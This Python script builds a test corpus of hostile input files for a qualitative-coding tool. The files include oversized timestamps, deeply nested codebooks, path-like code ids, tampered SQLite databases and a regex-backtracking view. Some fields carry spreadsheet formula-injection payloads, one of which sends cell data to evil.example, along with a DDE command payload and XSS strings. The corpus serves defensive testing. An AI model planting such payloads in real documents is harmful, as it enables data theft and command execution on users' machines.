"""Write the committed attack corpus of issue 16 (run from the repository's root):

    .venv/bin/python tests/data/bad/issue16/make_corpus.py

Every file is deterministic. ``tests/cli/test_attack_corpus.py`` feeds each to the
command line and checks the exact outcome. Inputs that cannot be files in a
repository (a FIFO, a device, a socket, a paragraph of a million characters, a
full disk) are made by the tests themselves (``tests/cli/test_hostile_files.py``,
``tests/cli/test_one_line_errors.py``).
"""

from __future__ import annotations

import os
import shutil
import sqlite3
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[3]


def text_files() -> None:
    (HERE / "huge_hours.srt").write_text(
        "1\n99999999999:00:00,000 --> 99999999999:00:01,000\nAni: halo semua.\n\n"
        "2\n00:00:02,000 --> 00:00:03,000\nBudi: ya.\n",
        encoding="utf-8",
    )
    (HERE / "huge_hours.vtt").write_text(
        "WEBVTT\n\n99999999999:00:00.000 --> 99999999999:00:01.000\nAni: halo semua.\n\n"
        "00:00:02.000 --> 00:00:03.000\nBudi: ya.\n",
        encoding="utf-8",
    )
    lines = ["version: 1", "codes:", "  - id: c0", "    label: C0"]
    for i in range(1, 990):
        lines += [f"  - id: c{i}", f"    label: C{i}", f"    parent: c{i - 1}"]
    (HERE / "deep_parents.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (HERE / "id_newline.yaml").write_text(
        'version: 1\ncodes:\n  - id: "cost\\n"\n    label: Cost\n', encoding="utf-8"
    )
    opening = "".join(
        f'<Code guid="{i:08d}-0000-4000-8000-000000000000" name="c{i}" isCodable="true">'
        for i in range(5000)
    )
    (HERE / "nested_codes.qdc").write_text(
        '<?xml version="1.0" encoding="utf-8"?>'
        '<CodeBook xmlns="urn:QDA-XML:codebook:1.0" origin="attack"><Codes>'
        + opening
        + "</Code>" * 5000
        + "</Codes></CodeBook>",
        encoding="utf-8",
    )
    (HERE / "formula_codebook.yaml").write_text(
        "version: 1\ncodes:\n"
        "  - id: cost\n"
        '    label: \'=HYPERLINK("http://evil.example/?d="&A1,"click")\'\n'
        "  - id: time\n"
        "    label: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
        "    description: '<script>alert(1)</script>'\n",
        encoding="utf-8",
    )
    (HERE / "utf16le_no_bom.txt").write_bytes(
        "Pewawancara: Berapa lama antre?\n\nNarasumber: Dua jam, kafé tutup.\n".encode("utf-16-le")
    )
    (HERE / "markup_transcript.txt").write_text(
        "Pewawancara: <script>alert('interviewer')</script> Berapa lama?\n\n"
        'Narasumber: =HYPERLINK("http://evil.example") <img src=x onerror=alert(1)>\n',
        encoding="utf-8",
    )


def foreign_files() -> None:
    for name, mode in (("otherapp.db", "delete"), ("otherapp_wal.db", "wal")):
        path = HERE / name
        path.unlink(missing_ok=True)
        con = sqlite3.connect(path)
        con.execute(f"PRAGMA journal_mode={mode}")
        con.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
        con.execute("INSERT INTO notes (body) VALUES ('another application')")
        con.commit()
        con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        con.close()


def hostile_projects() -> None:
    os.environ["QUALCODE_FAKE_NOW"] = "2026-01-15T09:30:00Z"
    os.environ["QUALCODE_CODER"] = "budi"
    os.environ["QUALCODE_CONFIG_DIR"] = tempfile.mkdtemp()
    sys.path.insert(0, str(ROOT))
    from qualcode import services
    from qualcode.core.codebook import Code

    work = Path(tempfile.mkdtemp())
    (work / "codebook.yaml").write_text(
        "version: 1\ncodes:\n  - id: cost\n    label: Cost\n  - id: time\n    label: Time\n",
        encoding="utf-8",
    )
    (work / "wawancara.txt").write_text(
        "Pewawancara: Berapa lama Ibu antre?\n\nNarasumber: Dua jam. Petugas datang telat.\n",
        encoding="utf-8",
    )
    project = services.init_project(str(work / "qualcode.db"), work / "codebook.yaml")
    services.import_transcripts(project, [work / "wawancara.txt"])
    good, _ = project.codings.apply_coding("wawancara", "time", 49, 56)
    project.codes.add_code(Code("extra", "Extra"))
    project.close()
    con = sqlite3.connect(work / "qualcode.db")
    doc = con.execute("SELECT pk FROM documents").fetchone()[0]
    cost = con.execute("SELECT pk FROM codes WHERE id = 'cost'").fetchone()[0]
    for guid, start, end, coder in (
        ("00000000-0000-4000-8000-000000000001", -50, 10, "budi"),
        ("00000000-0000-4000-8000-000000000002", 5, 99999999, "budi"),
        ("00000000-0000-4000-8000-000000000003", 40, 30, "budi"),
        ("00000000-0000-4000-8000-000000000004", 1, 5, "bu\ndi"),
    ):
        con.execute(
            'INSERT INTO codings (guid, document_pk, code_pk, start, "end", coder, created, '
            "quote, origin, status, review, anchor, version) VALUES (?, ?, ?, ?, ?, ?, 'x', "
            "'x', 'manual', 'accepted', 'unreviewed', 'exact', 1)",
            (guid, doc, cost, start, end, coder),
        )
    # a tombstone by ani for budi's coding, and a code whose id is a path
    con.execute(
        "INSERT INTO tombstones (guid, kind, deleted_at, coder) VALUES (?, 'coding', 'x', 'ani')",
        (good.guid,),
    )
    con.execute("UPDATE codes SET id = '../../x y' WHERE id = 'extra'")
    con.commit()
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    con.close()
    shutil.copyfile(work / "qualcode.db", HERE / "hostile_merge.db")
    # a merge source whose table is a view calling a function from a hostile schema
    view = HERE / "hostile_view.db"
    shutil.copyfile(work / "qualcode.db", view)
    con = sqlite3.connect(view)
    con.execute("DROP TABLE tombstones")
    con.execute(
        "CREATE VIEW tombstones AS SELECT regexp('(a+)+$', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaX') "
        "AS guid, 'coding' AS kind, 'x' AS deleted_at, 'x' AS coder"
    )
    con.commit()
    con.execute("VACUUM")
    con.close()
    shutil.rmtree(work)


if __name__ == "__main__":
    text_files()
    foreign_files()
    hostile_projects()
    print("\n".join(sorted(p.name for p in HERE.iterdir() if p.name != "make_corpus.py")))
